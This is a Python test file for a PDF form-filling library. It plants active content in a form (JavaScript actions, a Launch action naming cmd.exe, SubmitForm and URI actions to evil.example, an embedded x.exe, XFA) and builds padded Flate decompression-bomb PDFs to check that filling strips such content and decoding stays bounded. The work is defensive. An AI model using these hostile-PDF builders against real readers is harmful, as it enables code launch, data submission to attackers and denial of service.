"""Forms from outside: active content never written, decoding bounded, formats bounded."""

from __future__ import annotations

import io
import subprocess
import sys
import textwrap
import zlib
from pathlib import Path
from typing import Any

import pytest

from iopauth import load_case
from iopauth.errors import FormError, FormMappingError
from iopauth.forms import fill, form_fields, parse_mapping
from iopauth.forms._budget import MAX_FORM_DECODED

ROOT = Path(__file__).parent.parent
FORMS = Path(__file__).parent / "forms"
TEST_MAPPING = FORMS / "iop-request.toml"
CASE = load_case(ROOT / "examples" / "cases" / "medicare-stepdown-depression.json")
ACTIVE = ("/JavaScript", "/JS", "/Launch", "/SubmitForm", "/URI", "/EmbeddedFile", "/XFA")
ACTIVE_KEYS = ("/AA", "/OpenAction", "/JS", "/EF", "/XFA", "/JavaScript", "/EmbeddedFiles")


def _armed_form() -> bytes:
    """The test form with every kind of active content the issue lists planted in it."""
    from pypdf import PdfReader, PdfWriter
    from pypdf.generic import (
        ArrayObject,
        DecodedStreamObject,
        DictionaryObject,
        NameObject,
        TextStringObject,
    )

    def action(kind: str, **extra: Any) -> DictionaryObject:
        node = DictionaryObject({NameObject("/S"): NameObject(kind)})
        for key, value in extra.items():
            node[NameObject(f"/{key}")] = value
        return node

    js = action("/JavaScript", JS=TextStringObject("app.alert(this.getField('Name').value)"))
    writer = PdfWriter(clone_from=PdfReader(FORMS / "iop-request.pdf"))
    root = writer.root_object
    root[NameObject("/OpenAction")] = writer._add_object(js)
    root[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): js})
    embedded = DecodedStreamObject()
    embedded.set_data(b"stolen")
    filespec = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Filespec"),
            NameObject("/F"): TextStringObject("x.exe"),
            NameObject("/EF"): DictionaryObject({NameObject("/F"): writer._add_object(embedded)}),
        }
    )
    root[NameObject("/Names")] = DictionaryObject(
        {
            NameObject("/JavaScript"): DictionaryObject(
                {NameObject("/Names"): ArrayObject([TextStringObject("a"), js])}
            ),
            NameObject("/EmbeddedFiles"): DictionaryObject(
                {NameObject("/Names"): ArrayObject([TextStringObject("x"), filespec])}
            ),
        }
    )
    acro_form: Any = root["/AcroForm"]
    acro_form[NameObject("/XFA")] = TextStringObject("<xdp/>")
    page = writer.pages[0]
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): js})
    launch = action("/Launch", F=TextStringObject("cmd.exe"))
    submit = action("/SubmitForm", F=TextStringObject("https://evil.example/"))
    uri = action("/URI", URI=TextStringObject("https://evil.example/"))
    annotations: Any = page["/Annots"]
    for i, annotation in enumerate(annotations):
        widget = annotation.get_object()
        widget[NameObject("/AA")] = DictionaryObject({NameObject("/K"): js, NameObject("/Fo"): js})
        widget[NameObject("/A")] = (launch, submit, uri)[i % 3]
    return _bytes(writer)


def _bytes(writer: Any) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _every_dict(pdf: bytes) -> list[Any]:
    """Every dictionary of every object of ``pdf`` (direct ones inside included)."""
    from pypdf import PdfReader
    from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject

    reader = PdfReader(io.BytesIO(pdf))
    found: list[Any] = []
    todo: list[Any] = [reader.trailer]
    seen: set[tuple[int, int]] = set()
    while todo:
        node = todo.pop()
        if isinstance(node, IndirectObject):
            key = (node.idnum, node.generation)
            if key in seen:
                continue
            seen.add(key)
            node = node.get_object()
        if isinstance(node, DictionaryObject):
            found.append(node)
            todo.extend(node.values())
        elif isinstance(node, ArrayObject):
            todo.extend(node)
    return found


@pytest.mark.parametrize("flatten", [False, True])
def test_active_content_never_survives_fill(flatten: bool) -> None:
    """OpenAction, document/page/field AA, Launch, SubmitForm, URI, JavaScript names,
    embedded files and XFA planted in a form are gone from the filled copy."""
    armed = _armed_form()
    kinds = {str(d.get("/S")) for d in _every_dict(armed)}
    assert {"/JavaScript", "/Launch", "/SubmitForm", "/URI"} <= kinds  # the probe is armed
    filled = fill(CASE, armed, TEST_MAPPING, flatten=flatten)
    for node in _every_dict(filled):
        assert not [k for k in ACTIVE_KEYS if k in node]
        assert str(node.get("/S")) not in ACTIVE
        assert "/A" not in node or node["/A"].get_object().get("/S") == "/GoTo"
    if not flatten:
        fields = form_fields(filled)
        assert fields  # the form is still a form, its values kept
    assert b"app.alert" not in filled
    assert b"cmd.exe" not in filled
    assert b"stolen" not in filled


def _object_stream(numbers: list[int], bodies: list[bytes], padding: int) -> bytes:
    header = b""
    offsets, body = [], b""
    for number, text in zip(numbers, bodies, strict=True):
        offsets.append(f"{number} {len(body)} ".encode())
        body += text + b"\n"
    header = b"".join(offsets)
    data = header + body + b" " * padding
    packed = zlib.compress(data, 9)
    head = (
        f"<< /Type /ObjStm /N {len(numbers)} /First {len(header)} /Filter /FlateDecode "
        f"/Length {len(packed)} >>"
    ).encode()
    return head + b"\nstream\n" + packed + b"\nendstream"


def _padded_form(streams: int, padding: int) -> bytes:
    """A form whose catalog, page and fields live in Flate object streams, each padded."""
    fields = [5 + i for i in range(streams)]
    first = [1, 2, 3, 4]
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm 3 0 R >>",
        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        b"<< /Fields [" + b" ".join(b"%d 0 R" % n for n in fields) + b"] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
    ]
    out = bytearray(b"%PDF-1.5\n")
    entries: dict[int, tuple[int, int, int]] = {}
    stream_numbers = [100 + i for i in range(streams + 1)]
    contents = [(first, bodies)] + [
        ([n], [b"<< /FT /Tx /T (F%d) /Rect [0 0 10 10] /Subtype /Widget >>" % n]) for n in fields
    ]
    for stream_number, (numbers, texts) in zip(stream_numbers, contents, strict=True):
        entries[stream_number] = (1, len(out), 0)
        out += b"%d 0 obj\n" % stream_number + _object_stream(numbers, texts, padding)
        out += b"\nendobj\n"
        for index, number in enumerate(numbers):
            entries[number] = (2, stream_number, index)
    xref_number = stream_numbers[-1] + 1
    entries[xref_number] = (1, len(out), 0)
    size = xref_number + 1
    rows = b"".join(
        bytes([entries.get(n, (0, 0, 0))[0]])
        + entries.get(n, (0, 0, 0))[1].to_bytes(4, "big")
        + entries.get(n, (0, 0, 0))[2].to_bytes(2, "big")
        for n in range(size)
    )
    xref_at = len(out)
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % (
        xref_number,
        size,
        len(rows),
    )
    out += rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def test_a_small_padded_form_is_read() -> None:
    """The builder makes a real form: with little padding its fields are listed."""
    assert list(form_fields(_padded_form(3, 1000))) == ["F5", "F6", "F7"]


PROBE = textwrap.dedent(
    """
    import resource, sys, time
    resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))
    resource.setrlimit(resource.RLIMIT_CPU, (120, 120))
    from iopauth.errors import FormError
    from iopauth.forms import form_fields
    data = open(sys.argv[1], "rb").read()
    began = time.process_time()
    try:
        form_fields(data)
        print("read")
    except FormError as exc:
        print("refused:", exc)
    print("cpu:", round(time.process_time() - began, 1))
    """
)


@pytest.mark.parametrize(("streams", "padding"), [(40, 10_000_000), (3, 70_000_000)])
def test_decoding_is_bounded_per_stream_and_per_form(
    tmp_path: Path, streams: int, padding: int
) -> None:
    """40 object streams of 10 MB (400 MB decoded) or 70 MB ones: refused under 1 GiB."""
    form = tmp_path / "padded.pdf"
    form.write_bytes(_padded_form(streams, padding))
    assert form.stat().st_size < 16 * 1024 * 1024
    done = subprocess.run(
        [sys.executable, "-c", PROBE, str(form)],
        capture_output=True,
        text=True,
        timeout=600,
        check=False,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    first, cpu = done.stdout.splitlines()
    assert first in (
        f"refused: the form decodes to more than {MAX_FORM_DECODED} bytes",
        "refused: the form is not a readable PDF",
        "refused: the form's fields cannot be read (a damaged PDF)",
    )
    assert float(cpu.split()[1]) < 120


@pytest.mark.parametrize(
    ("line", "where"),
    [
        ('format = "1500000000.1f"', "fields[0].format"),
        ('format = ">1001"', "fields[0].format"),
        ('format = ".0101f"', "fields[0].format"),
    ],
)
def test_format_widths_and_precisions_are_bounded(line: str, where: str) -> None:
    """A number format asking for a huge width or precision is a mapping error, not 3 GB."""
    text = f'[form]\ntitle = "t"\n[[fields]]\nfield = "Name"\npath = "plan.weeks"\n{line}\n'
    with pytest.raises(FormMappingError) as caught:
        parse_mapping(text)
    assert caught.value.errors == (f"{where}: widths and precisions must be at most 100",)


def test_date_format_widths_are_bounded() -> None:
    text = (
        '[form]\ntitle = "t"\ndate_format = "%1000000000Y"\n'
        '[[fields]]\nfield = "Name"\npath = "plan.weeks"\n'
    )
    with pytest.raises(FormMappingError) as caught:
        parse_mapping(text)
    assert caught.value.errors == ("form.date_format: widths and precisions must be at most 100",)


def test_a_form_declaring_too_many_objects_is_refused() -> None:
    data = _padded_form(1, 10).replace(b"/Size 103", b"/Size 900000")
    with pytest.raises(FormError, match="more than 200000 objects"):
        form_fields(data)
